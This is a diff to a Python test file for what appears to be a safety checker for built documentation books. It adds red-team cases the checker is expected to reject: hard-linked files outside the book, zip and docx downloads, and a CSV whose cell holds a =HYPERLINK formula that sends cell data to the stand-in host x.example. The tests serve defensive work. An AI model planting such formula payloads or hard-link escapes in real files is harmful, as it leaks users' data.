@@ -34,6 +34,7 @@ from .harness import (
     append,
     build,
     fifo,
+    hard_linked,
     inserted,
     line_of,
     moved_out,
@@ -484,6 +485,31 @@ CASES: dict[str, tuple[list[Edit], str, str, str | int]] = {
         "extra.md",
         1,
         "toc.not_readable",
+    ),
+    "source that is a hard link to a file outside the book": (
+        [hard_linked(SOURCE)],
+        "briefing.source",
+        SOURCE,
+        1,
+    ),
+    "page that is a hard link to a file outside the book": (
+        [hard_linked("extra.md"), replace("```{toctree}\n", "```{toctree}\nextra\n")],
+        "briefing.outside-file",
+        "extra.md",
+        1,
+        "toc.not_readable",
+    ),
+    "a download that is a hard link to a file outside the book (red team G, 12)": (
+        [hard_linked("notes.txt"), inserted("Get {download}`the notes <notes.txt>`.")],
+        "briefing.outside-file",
+        "index.md",
+        "Get {download}",
+    ),
+    "a picture that is a hard link to a file outside the book": (
+        [hard_linked("leak.svg"), inserted("![x](leak.svg)")],
+        "briefing.outside-file",
+        "index.md",
+        "![x](leak.svg)",
     ),
     "picture of 900 million pixels in a small file": (
         [
@@ -1242,6 +1268,27 @@ CASES: dict[str, tuple[list[Edit], str, str, str | int]] = {
             inserted("Get {download}`the brief <brief.pdf>`."),
         ],
         "briefing.active-pdf",
+        "index.md",
+        "Get {download}",
+    ),
+    "a CSV download whose cell a spreadsheet runs as a formula (red team G, 9)": (
+        [
+            write("data.csv", 'name,value\nlee,3\nkim,"=HYPERLINK(""https://x.example/?""&A1)"\n'),
+            inserted("Get {download}`the data <data.csv>`."),
+        ],
+        "briefing.active-download",
+        "index.md",
+        "Get {download}",
+    ),
+    "an office document download, which can fetch a template with macros (G, 10)": (
+        [write("memo.docx", "PK"), inserted("Get {download}`the memo <memo.docx>`.")],
+        "briefing.file-type",
+        "index.md",
+        "Get {download}",
+    ),
+    "a zip download, which packs what the book refuses (G, 11)": (
+        [write("annex.zip", "PK"), inserted("Get {download}`the annex <annex.zip>`.")],
+        "briefing.file-type",
         "index.md",
         "Get {download}",
     ),
